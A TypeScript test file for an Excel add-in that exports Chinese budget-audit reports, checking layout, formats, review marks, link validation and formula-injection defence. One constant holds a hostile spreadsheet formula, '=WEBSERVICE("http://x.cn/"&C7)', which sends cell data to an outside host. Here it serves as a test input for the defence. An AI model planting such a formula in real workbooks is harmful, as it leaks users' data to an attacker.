/**
 * 导出审核报告 v2 (issue 10) and formula injection (issue 13 item 5): a header block, figures as numbers with
 * formats, fixed widths, print set-up, links only to validated targets, review marks, and no text ever written
 * as a formula.
 */
import * as fs from "fs";
import * as path from "path";
import { auditWorkbook, Finding } from "../../src/engine";
import { TABLE_HEADER_ROW } from "../../src/excel/report";
import { REPORT_COLUMNS, validLinkTarget } from "../../src/present/reportSheet";
import { makeMark } from "../../src/present/review";
import { TOOL_VERSION } from "../../src/present/version";
import { levelOf, setup, sheetOf } from "./hostHarness";

const EVIL = '=WEBSERVICE("http://x.cn/"&C7)';

test("the tool version printed in reports is package.json's", () => {
  const pkg = JSON.parse(fs.readFileSync(path.join(__dirname, "..", "..", "package.json"), "utf8"));
  expect(TOOL_VERSION).toBe(pkg.version);
});

test("links only to a valid, existing sheet name and a single cell", () => {
  const f = { sheet: "公开03表", cell: "C10" } as Finding;
  expect(validLinkTarget(f, ["公开03表"])).toEqual({ sheet: "公开03表", cell: "C10" });
  expect(validLinkTarget({ ...f, cell: "$c$10" }, ["公开03表"])).toEqual({ sheet: "公开03表", cell: "C10" });
  expect(validLinkTarget(f, ["公开05表"])).toBeNull();
  expect(validLinkTarget({ ...f, cell: "C10:D11" }, ["公开03表"])).toBeNull();
  expect(validLinkTarget({ ...f, cell: null }, ["公开03表"])).toBeNull();
  expect(validLinkTarget({ ...f, sheet: EVIL }, [EVIL])).toBeNull();
});

describe.each(["1.1", "1.6", "1.7", "1.18"])("ExcelApi %s", (version) => {
  const level = levelOf(version);

  test("header block, numbers with formats, review marks, no text as a formula, links where safe", async () => {
    const { host, book, fake } = setup(version);
    const snap = await host.readSnapshot();
    const result = auditWorkbook(snap);
    // A finding without a cell on a sheet whose name is a formula (a hostile workbook), and one on a missing sheet.
    const evil: Finding = { ...result.findings[0], rule: "S.7", sheet: EVIL, cell: null, message: "=1+1 不是公式", expected: null, actual: null, difference: null, tolerance: null };
    const ghost: Finding = { ...result.findings[0], sheet: "不存在", cell: "A1" };
    result.findings.push(evil, ghost);
    const tail = result.findings.filter((f) => f.severity === "tail" && f.cell === "C10")[0];
    await host.saveReviewMarks([makeMark(tail, "已核实", "与总账一致", snap, new Date("2026-11-30T01:00:00Z"))]);
    const before = fake.log.syncs;
    const name = await host.exportReport(result);
    expect(fake.log.syncs - before).toBe(level >= 9 ? 3 : 2);
    expect(fake.maxLevelUsed()).toBeLessThanOrEqual(level);
    const rep = sheetOf(book, name);
    const v = (a: string) => rep.cells[a] && rep.cells[a].value;

    expect(v("A1")).toBe("决算审核报告");
    expect([v("A2"), v("B2")]).toEqual(["单位", result.unit || ""]);
    expect([v("A3"), v("B3")]).toEqual(["年度", "2024年度"]);
    expect(v("A4")).toBe("审核时间");
    expect(v("B5")).toBe("决算审核 " + TOOL_VERSION);
    expect(v("B6")).toContain("未审核 " + result.summary.notChecked);
    expect(v("B6")).toContain("另有已核实 1、忽略 0（不计入上述数目）");

    const h = TABLE_HEADER_ROW;
    expect(REPORT_COLUMNS.map((c, j) => v(String.fromCharCode(65 + j) + h))).toEqual(REPORT_COLUMNS.map((c) => c.title));
    expect(REPORT_COLUMNS.map((c) => c.title)).toEqual(expect.arrayContaining(["计算数/应为数", "报表数/文中数", "允许误差", "核实", "核实说明"]));
    // Row of the first finding: 序号 and figures are numbers with formats.
    const first = result.findings[0];
    expect(v("A" + (h + 1))).toBe(1);
    expect(rep.cells["A" + (h + 1)].format).toBe("0");
    expect(v("F" + (h + 1))).toBe(Number(first.expected));
    expect(rep.cells["F" + (h + 1)].format).toBe("#,##0.00");
    expect(typeof v("J" + (h + 1))).toBe("string");
    expect(rep.cells["J" + (h + 1)].format).toBe("@");

    // The reviewed finding carries its mark.
    const row = h + 1 + result.findings.indexOf(tail);
    expect([v("M" + row), v("N" + row), v("O" + row)]).toEqual(["已核实", "与总账一致", "2026-11-30 01:00"]);

    // Issue 13 item 5: the hostile sheet name and message are plain text; the only formulas are our HYPERLINKs.
    const evilRow = h + result.findings.length - 1;
    expect(v("D" + evilRow)).toBe(EVIL);
    expect(v("J" + evilRow)).toBe("=1+1 不是公式");
    const formulas = Object.keys(rep.cells).filter((a) => rep.cells[a].formula);
    formulas.forEach((a) => expect(rep.cells[a].formula!.indexOf('=HYPERLINK("#')).toBe(0));
    expect(formulas.some((a) => rep.cells[a].formula!.indexOf("WEBSERVICE") >= 0)).toBe(false);
    const ghostRow = evilRow + 1;
    expect(v("D" + ghostRow)).toBe("'不存在'!A1");
    if (level >= 7) {
      expect(formulas).toEqual([]);
      expect(rep.links!["D" + (h + 1)]).toEqual({ documentReference: "'" + first.sheet + "'!" + first.cell, textToDisplay: "'" + first.sheet + "'!" + first.cell });
      expect(rep.links!["D" + evilRow]).toBeUndefined();
      expect(rep.links!["D" + ghostRow]).toBeUndefined();
      expect(rep.frozenRows).toBe(h);
    } else {
      expect(rep.cells["D" + (h + 1)].formula).toBe('=HYPERLINK("#\'' + first.sheet + "'!" + first.cell + '","\'' + first.sheet + "'!" + first.cell + '")');
      expect(formulas.length).toBe(result.findings.length - 2);
    }
    if (level >= 2) {
      expect(rep.widths!.J).toBe(300);
      expect(rep.widths!.A).toBe(32);
      expect(rep.wrapped).toContain("J" + h);
    }
    if (level >= 9) expect(rep.page).toEqual({ orientation: "Landscape", zoom: { horizontalFitToPages: 1, verticalFitToPages: 0 }, titleRows: "$" + h + ":$" + h });
    else expect(rep.page).toBeUndefined();
  });
});

test("never overwrites an existing 审核报告", async () => {
  const { host, book } = setup("1.1", (b) => {
    b.sheets.push({ name: "审核报告", id: "{old}", visibility: "Visible", protected: false, cells: { A1: { value: "旧报告" } }, merges: [], cfs: [], notes: {} });
  });
  const result = auditWorkbook(await host.readSnapshot());
  expect(await host.exportReport(result)).toBe("审核报告(2)");
  expect(sheetOf(book, "审核报告").cells).toEqual({ A1: { value: "旧报告" } });
  expect(book.active).toBe("审核报告(2)");
});
